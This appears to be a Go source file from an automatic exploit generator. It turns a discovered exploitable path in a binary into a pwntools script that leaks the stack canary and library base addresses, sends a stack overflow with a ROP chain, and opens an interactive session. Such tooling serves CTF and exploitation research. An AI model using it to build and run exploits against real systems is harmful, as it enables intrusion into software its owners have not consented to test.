// Package scriptgen compiles an exploitable path into a pwntools script.
//
// The script replays the path's I/O states in the order they were
// observed. Inputs are sent as they were, outputs are received and
// parsed when they leak a value the chain depends on, and the input
// state that overflowed the stack carries the ROP chain.
package scriptgen

import (
	"errors"
	"fmt"
	"log"
	"strings"

	"gitlab.com/stephen-fox/expgen/conv"
	"gitlab.com/stephen-fox/expgen/elfkit"
	"gitlab.com/stephen-fox/expgen/iokit"
	"gitlab.com/stephen-fox/expgen/iostates"
	"gitlab.com/stephen-fox/expgen/memory"
	"gitlab.com/stephen-fox/expgen/ropkit"
	"gitlab.com/stephen-fox/expgen/scripting"
)

const shebang = "#!/usr/bin/env python3"

// Config is what Generate compiles.
type Config struct {
	Elf *elfkit.Image

	// OptLibc, when non-nil, is declared in the script as well.
	OptLibc *elfkit.Image

	// Symtab holds the script variables the chain refers to. It may
	// be nil.
	Symtab *memory.AddressTable

	Target scripting.Target

	// AuxiliaryFunctions are Python function definitions the chain
	// refers to.
	AuxiliaryFunctions []string

	// State is the exploitable path's I/O state.
	State *iostates.State

	// Chain is the output of the chain builder. Its first subchain
	// must hold the stage 1 payload as a single byte vector.
	Chain []ropkit.Subchain

	// OptStage1Solver is a command printing the stage 1 payload as
	// hex when given the canary, the executable's base and the state
	// info list. Without it, solve_stage1 raises an exception.
	OptStage1Solver string

	// OptLogger, when non-nil, is used instead of log.Default.
	OptLogger *log.Logger
}

func (o Config) logger() *log.Logger {
	if o.OptLogger != nil {
		return o.OptLogger
	}

	return log.Default()
}

func (o Config) validate() error {
	if o.Elf == nil {
		return errors.New("the executable image is required")
	}

	if o.State == nil {
		return errors.New("the path's i/o state is required")
	}

	if len(o.Chain) == 0 || len(o.Chain[0]) != 1 {
		return errors.New("the first subchain must only contain the stage 1 payload")
	}

	if _, isBytes := o.Chain[0][0].(ropkit.ByteVector); !isBytes {
		return errors.New("the stage 1 payload must be a byte vector")
	}

	idx := o.State.LastInputStateInfoIdx
	if idx < 0 || idx >= len(o.State.StateInfoList) {
		return fmt.Errorf("the rop chain input state index (%d) is out of range", idx)
	}

	if _, isInput := o.State.StateInfoList[idx].(iostates.InputStateInfo); !isInput {
		return fmt.Errorf("state %d is not an input state", idx)
	}

	if o.State.LastInputStateInfoIdxBeforeFirstSymbolicRip < 0 {
		return errors.New("rip never became symbolic on the path")
	}

	return nil
}

// needsSolver reports whether stage 1 depends on values that are only
// known at exploitation time.
func (o Config) needsSolver() bool {
	return o.Elf.Checksec.HasCanary || o.Elf.Checksec.HasPIE
}

// Generate writes the exploit script described by config to script.
func Generate(script *Script, config Config) error {
	err := config.validate()
	if err != nil {
		return fmt.Errorf("failed to validate config - %w", err)
	}

	writePrologue(script, config)

	script.Writeline("if __name__ == '__main__':")
	script.Indent()
	script.Writeline(config.Target.ProcessLine())

	stage1 := config.Chain[0][0].(ropkit.ByteVector)

	gen := &generator{
		script: script,
		config: config,
		stream: iokit.NewInputStream(stage1),
	}

	for i, info := range config.State.StateInfoList {
		script.Writeline("")

		gen.i = i
		info.Accept(gen)
	}

	script.Writeline("")
	script.Writeline("proc.interactive()")
	script.Dedent()

	if !config.needsSolver() && gen.stream.Remaining() > 0 {
		config.logger().Printf("warn: %d bytes of stage 1 were not sent", gen.stream.Remaining())
	}

	return nil
}

func writePrologue(script *Script, config Config) {
	script.Writelines(
		shebang,
		"from pwn import *",
		"context.update(arch = 'amd64', os = 'linux', log_level = 'info')",
		"")

	images := []*elfkit.Image{config.Elf}
	if config.OptLibc != nil {
		images = append(images, config.OptLibc)
	}

	for _, img := range images {
		script.Writeline(fmt.Sprintf("%s = ELF(%s, checksec=False)", img.Name, conv.PyString(img.Filename)))
	}

	script.Writeline("")

	if config.Symtab != nil {
		symbols := config.Symtab.Symbols()
		for _, sym := range symbols {
			script.Writeline(fmt.Sprintf("%s = 0x%x", sym.Name, sym.Value))
		}

		if len(symbols) > 0 {
			script.Writeline("")
		}
	}

	// Leak parsing assigns these, stage 1 and the chain read them.
	script.Writeline("canary = 0")
	for _, img := range images {
		script.Writeline(img.BaseVar() + " = 0")
	}
	script.Writeline("")

	for _, fn := range config.AuxiliaryFunctions {
		if fn == "" {
			continue
		}

		script.Writelines(fn, "")
	}

	if !config.needsSolver() {
		return
	}

	script.Writeline("def solve_stage1(canary, elf_base, state_info_list):")
	script.Indent()

	if config.OptStage1Solver == "" {
		script.Writeline("raise NotImplementedError('no stage 1 solver for: {}'.format(state_info_list))")
	} else {
		script.Writelines(
			"import subprocess",
			fmt.Sprintf("out = subprocess.check_output([%s, hex(canary), hex(elf_base), state_info_list])",
				conv.PyString(config.OptStage1Solver)),
			"return bytes.fromhex(out.decode().strip())")
	}

	script.Dedent()
	script.Writeline("")
}

// generator compiles one state at a time. i is the index of the state
// being visited.
type generator struct {
	script *Script
	config Config
	stream *iokit.InputStream
	i      int
}

func (o *generator) shouldSkipInputState() bool {
	state := o.config.State

	return o.i != state.LastInputStateInfoIdx &&
		o.i >= state.LastInputStateInfoIdxBeforeFirstSymbolicRip
}

func (o *generator) InputState(info iostates.InputStateInfo) {
	// Inputs that only occur because the chain re-steered the path
	// are not sent.
	if o.shouldSkipInputState() {
		o.script.Writeline(fmt.Sprintf("# input state (offset = %d), skipped", info.Offset))
		o.stream.Skip(info.Offset)
		return
	}

	o.script.Writeline(fmt.Sprintf("# input state (offset = %d)", info.Offset))

	if o.i != o.config.State.LastInputStateInfoIdx {
		o.script.Writeline("proc.send(" + conv.PyBytes(o.stream.Read(info.Offset)) + ")")
		return
	}

	o.script.Writeline("# input state (rop chain begin)")

	o.stage1(info)

	for _, subchain := range o.config.Chain[1:] {
		for _, e := range subchain {
			snippet, isSnippet := e.(ropkit.Snippet)
			if !isSnippet {
				o.script.AppendRopPayload(ropkit.Fragment(e))
				continue
			}

			// The snippet handles what the payload so far triggers.
			o.script.FlushRopPayload()
			o.script.Writelines(snippet.Lines...)
		}

		o.script.FlushRopPayload()
	}
}

func (o *generator) stage1(info iostates.InputStateInfo) {
	if !o.config.needsSolver() {
		o.script.AppendRopPayload(conv.PyBytes(o.stream.Read(info.Offset)))
		o.script.FlushRopPayload()
		return
	}

	var b strings.Builder

	fmt.Fprintf(&b, "solve_stage1(canary, %s, '%s')[%d:",
		o.config.Elf.BaseVar(),
		iostates.FormatStateInfoList(o.config.State.StateInfoList),
		o.stream.NrBytesRead())

	if o.stream.NrBytesSkipped() > 0 {
		fmt.Fprintf(&b, "%d", o.stream.NrBytesConsumed())
	}

	b.WriteByte(']')

	o.script.AppendRopPayload(b.String())
	o.script.FlushRopPayload()
}

func (o *generator) OutputState(info iostates.OutputStateInfo) {
	o.script.Writeline("# output state")

	if !info.Valid {
		o.script.Writeline("proc.recvrepeat(0.1)")
		return
	}

	o.script.Writeline("# leaking: " + info.LeakType.String())

	if info.LeakType == iostates.LeakCanary {
		o.script.Writelines(
			fmt.Sprintf("proc.recv(%d)", info.BufIndex),
			"canary = u64(b'\\x00' + proc.recv(7))",
			"log.info('leaked canary: {}'.format(hex(canary)))")
		return
	}

	prefix := o.leakVarPrefix(info.LeakType)

	o.script.Writelines(
		fmt.Sprintf("proc.recv(%d)", info.BufIndex),
		fmt.Sprintf("%s_leak = u64(proc.recv(6).ljust(8, b'\\x00'))", prefix),
		fmt.Sprintf("%s_base = %s_leak - 0x%x", prefix, prefix, info.BaseOffset),
		fmt.Sprintf("log.info('leaked %s_base: {}'.format(hex(%s_base)))", prefix, prefix))
}

// leakVarPrefix returns the prefix of the variables a base leak is
// stored in. Code and libc leaks are named after their image, so that
// the chain's base-relative values refer to them.
func (o *generator) leakVarPrefix(leakType iostates.LeakType) string {
	switch leakType {
	case iostates.LeakCode:
		return o.config.Elf.Name
	case iostates.LeakLibc:
		if o.config.OptLibc != nil {
			return o.config.OptLibc.Name
		}

		return "libc"
	default:
		return leakType.String()
	}
}

func (o *generator) SleepState(info iostates.SleepStateInfo) {
	o.script.Writelines(
		"# sleep state",
		fmt.Sprintf("sleep(%d)", info.Sec))
}
